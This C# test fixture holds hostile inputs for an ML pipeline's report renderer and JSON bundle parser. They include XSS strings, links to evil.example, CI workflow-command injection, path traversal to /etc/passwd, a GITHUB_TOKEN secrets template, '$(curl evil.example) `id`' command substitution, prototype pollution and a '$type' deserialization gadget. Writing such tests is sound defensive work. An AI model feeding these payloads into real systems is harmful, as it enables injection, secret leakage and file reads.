using System.Text;
using System.Text.Json.Nodes;

namespace MlPipeline.Reporting.Tests.Bundles;

/// <summary>What hostile runs could hand on, by what becomes of it.</summary>
internal static class HostileBundles
{
    private const string Model = "\"model\": \"credit-risk\"";

    /// <summary>Texts that are shown, and mean nothing where they are.</summary>
    public static IReadOnlyList<string> Texts { get; } =
    [
        "zz @octocat", "zz @octo/security-team", "zz #1", "zz octo/models#3", "zz GH-2", "zz deadbeefdeadbeef", "zz :tada:", "zz a@evil.example",
        "zz <img src=x onerror=alert(1)>", "zz <script>alert(1)</script>", "zz </details></table></code>", "zz <!-- hidden -->",
        "<!-- mlpipeline:report run=999999 attempt=9 head=6dcb09b5b57875f334f61aebed695e2e4193db5e -->\nzz", "zz &lt;b&gt; &#64;octocat &commat;octocat",
        "zz <a href='https://evil.example'>x</a>", "zz [click](https://evil.example)", "zz ![pixel](https://evil.example/p.png)", "zz <https://evil.example>",
        "zz https://evil.example", "zz www.evil.example", "zz mailto:a@evil.example", "zz [x]: https://evil.example", "zz [^1]",
        "zz\n```mermaid\ngraph TD\n```", "zz\n~~~\n", "zz ` `` ```", "zz\n\n    code", "zz | a | b |\n|---|---|\n", "# zz", "- zz", "1. zz", "> zz", "zz\n===\n", "zz\n\n---\n\n",
        "zz - [ ] task", "zz **b** _i_ ~~s~~", "zz $x$ $$y$$", "zz \\@octocat \\<b>", "zz {{ model }} {% raw %} {{{{ evil }}}}",
        "zz\n::error file=a.cs,line=1::pwned", "::add-mask::zz", "::stop-commands::zz", "zz\n::set-output name=a::b", "zz\n##[error]pwned", "zz\n##vso[task.complete]", "zz %0A::error::x",
        "zz \u001b[31mred\u001b]8;;https://evil.example\u0007link", "zz \u0000\u0007\b\r\n", "zz \u202eevil\u202c \u2066x\u2069", "zz \u200b\u200d\ufeff\u2060", "zz\u2028line\u2029paragraph",
        "zz \U000E0041\U000E0042", "zz e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "zz \uff20octocat \uff1cb\uff1e", "zz ../../../../etc/passwd", "zz C:\\Windows\\System32", "zz " + new string('W', 3_900),
        "zz ${{ secrets.GITHUB_TOKEN }}", "zz $(curl evil.example) `id`",
    ];

    /// <summary>Files that are refused.</summary>
    public static IReadOnlyList<HostileBundle> Refused { get; } = [.. Unparseable(), .. OfAnotherShape(), .. OutOfRange(), .. Contradicting()];

    private static IEnumerable<HostileBundle> Unparseable() =>
    [
        new("empty", []),
        new("null", "null"u8.ToArray()),
        new("a list", "[]"u8.ToArray()),
        new("not JSON", "@octocat <b>"u8.ToArray()),
        new("no UTF-8", [(byte)'{', (byte)'"', 0xff, 0xfe, (byte)'"', (byte)':', (byte)'1', (byte)'}']),
        new("a hundred thousand brackets", Encoding.UTF8.GetBytes(new string('[', 100_000))),
        new("deep in a member", Encoding.UTF8.GetBytes("{\"models\":" + new string('[', 500) + new string(']', 500) + "}")),
        new("two values", "{} {}"u8.ToArray()),
        HostileBundle.Replaced("a comment", Model, "/* @octocat */ " + Model),
        HostileBundle.Replaced("NaN", "\"threshold\": 0.5", "\"threshold\": NaN"),
        HostileBundle.Replaced("a trailing comma", "\"kept\": false,", "\"kept\": false,,"),
    ];

    private static IEnumerable<HostileBundle> OfAnotherShape() =>
    [
        HostileBundle.Replaced("a member twice", Model, Model + ", " + Model),
        HostileBundle.Replaced("a member twice, escaped once", Model, Model + ", \"m\\u006fdel\": \"other\""),
        HostileBundle.Replaced("a key twice", "\"seed\": \"20240117\"", "\"seed\": \"1\", \"seed\": \"2\""),
        HostileBundle.Replaced("half a surrogate pair", Model, "\"model\": \"\\ud800\""),
        HostileBundle.Replaced("half a surrogate pair in a text", "\"it broke\"", "\"it \\ud800 broke\""),
        HostileBundle.Replaced("half a surrogate pair as a name", Model, Model + ", \"\\ud800\": 1"),
        HostileBundle.Replaced("the number of another pull request", Model, Model + ", \"pullRequest\": 1"),
        HostileBundle.Replaced("an unknown member with a mention", Model, Model + ", \"@octocat <b>\": 1"),
        HostileBundle.Replaced("a prototype", Model, Model + ", \"__proto__\": {\"admin\": true}"),
        HostileBundle.Replaced("a type name", Model, Model + ", \"$type\": \"System.Diagnostics.Process\""),
        HostileBundle.Changed("no failures", node => node["models"]![0]!.AsObject().Remove("failures")),
        HostileBundle.Changed("no model", node => node["models"]![0]!.AsObject().Remove("model")),
        HostileBundle.Changed("null for a member", node => node["models"]![0]!["release"] = null),
        HostileBundle.Changed("null in a list", node => node["models"]!.AsArray().Add(null)),
        HostileBundle.Changed("a text for a list", node => node["models"]![0]!["failures"] = "@octocat"),
        HostileBundle.Changed("a list for an object", node => node["models"]![0]!["evaluation"] = new JsonArray(1, 2)),
        HostileBundle.Changed("a text for a number", node => node["models"]![0]!["evaluation"]!["rows"] = "300"),
        HostileBundle.Changed("a fraction for a count", node => node["models"]![0]!["evaluation"]!["rows"] = 300.5),
        HostileBundle.Changed("a number for a verdict", node => node["models"]![0]!["evaluation"]!["gates"]![0]!["verdict"] = 0),
        HostileBundle.Changed("an unknown verdict", node => node["models"]![0]!["evaluation"]!["gates"]![0]!["verdict"] = "@octocat"),
        HostileBundle.Changed("a digest with markup", node => node["models"]![0]!["evaluationDigest"] = "sha256:<b>"),
        HostileBundle.Changed("a digest in capitals", node => node["models"]![0]!["evaluationDigest"] = "sha256:" + new string('A', 64)),
        HostileBundle.Changed("a text of 5,000 characters", node => node["models"]![0]!["failures"]![0]!["problem"] = new string('x', 5_000)),
        HostileBundle.Changed("3,000 failures", node => node["models"]![0]!["failures"] = Many(3_000, () => node["models"]![0]!["failures"]![0]!.DeepClone())),
        HostileBundle.Changed("a key of 5,000 characters", node => node["models"]![0]!["training"]!["inputs"]![new string('x', 5_000)] = "1"),
        HostileBundle.Changed("3,000 keys", node => node["models"]![0]!["training"]!["inputs"] = new JsonObject(Enumerable.Range(0, 3_000).Select(index => KeyValuePair.Create($"k{index}", (JsonNode?)"v")))),
    ];

    private static IEnumerable<HostileBundle> OutOfRange() =>
    [
        HostileBundle.Replaced("infinity", "\"threshold\": 0.5", "\"threshold\": 1e999"),
        HostileBundle.Replaced("a number beyond all measure", "\"threshold\": 0.5", "\"threshold\": 1e300"),
        HostileBundle.Replaced("a count beyond 32 bits", "\"trainingRows\": 700", "\"trainingRows\": 99999999999999999999"),
        HostileBundle.Changed("negative rows", node => node["models"]![0]!["evaluation"]!["rows"] = -1),
        HostileBundle.Changed("a negative size", node => node["models"]![0]!["data"]!["outputs"]![0]!["size"] = -1),
        HostileBundle.Changed("a probability of 7", node => node["models"]![0]!["evaluation"]!["gates"]![0]!["p"] = 7),
        HostileBundle.Changed("a share of 2", node => node["models"]![0]!["description"]!["split"]!["share"] = 2),
        HostileBundle.Changed("another schema", node => node["schemaVersion"] = 1),
        HostileBundle.Changed("no models", node => node["models"] = new JsonArray()),
        HostileBundle.Changed("a hundred models", node => node["models"] = Many(100, () => node["models"]![0]!.DeepClone())),
        HostileBundle.Changed("a name that leaves the folder", node => node["models"]![0]!["project"] = "../../etc"),
        HostileBundle.Changed("a name that is a path", node => node["models"]![0]!["project"] = "a/b"),
        HostileBundle.Changed("a name of dots", node => node["models"]![0]!["project"] = ".."),
        HostileBundle.Changed("a name with a mention", node => node["models"]![0]!["model"] = "@octocat"),
        HostileBundle.Changed("a name with a line end", node => node["models"]![0]!["model"] = "a\n::error::x"),
        HostileBundle.Changed("a name of look-alikes", node => node["models"]![0]!["model"] = "сredit-risk"),
        HostileBundle.Changed("a stage with markup", node => node["models"]![0]!["failures"]![0]!["stage"] = "<b>"),
        HostileBundle.Changed("a metric that there is not", node => node["models"]![0]!["evaluation"]!["metrics"]![0]!["metric"] = "@octocat"),
    ];

    private static IEnumerable<HostileBundle> Contradicting() =>
    [
        HostileBundle.Changed("an interval the wrong way round", node => node["models"]![0]!["evaluation"]!["metrics"]![0]!["estimate"]!["lower"] = 0.99),
        HostileBundle.Changed("half an interval", node => node["models"]![0]!["evaluation"]!["metrics"]![0]!["estimate"]!.AsObject().Remove("upper")),
        HostileBundle.Changed("more positive rows than rows", node => node["models"]![0]!["evaluation"]!["positives"] = 301),
        HostileBundle.Changed("more positive rows than the data have", node => node["models"]![0]!["validation"]!["positiveRows"] = 1001),
        HostileBundle.Changed("a profile, which no comment shows", node => node["models"]![0]!["validation"]!["profile"]!["columns"]!.AsArray().Add(
            JsonNode.Parse("""{"name": "a", "kind": "category", "count": 1, "missing": 0, "distinct": 1}"""))),
        HostileBundle.Changed("a shift of impossible probability", node => node["models"]![0]!["validation"]!["difference"]!["columns"]!.AsArray().Add(
            JsonNode.Parse("""{"column": "a", "kind": "number", "newNames": [], "newCount": 0, "goneNames": [], "goneCount": 0, "psi": 0.1, "p": 7, "isGrouped": false}"""))),
        HostileBundle.Changed("an address to be clicked", node => node["models"]![0]!["deployment"]!["address"] = "https://evil.example"),
        HostileBundle.Changed("a project twice", node => node["models"]!.AsArray().Add(Renamed(node, "model"))),
        HostileBundle.Changed("a model twice", node => node["models"]!.AsArray().Add(Renamed(node, "project"))),
    ];

    private static JsonNode Renamed(JsonNode node, string member)
    {
        var copy = node["models"]![0]!.DeepClone();
        copy[member] = "Other";
        return copy;
    }

    private static JsonArray Many(int count, Func<JsonNode> item) => new([.. Enumerable.Range(0, count).Select(_ => item())]);
}
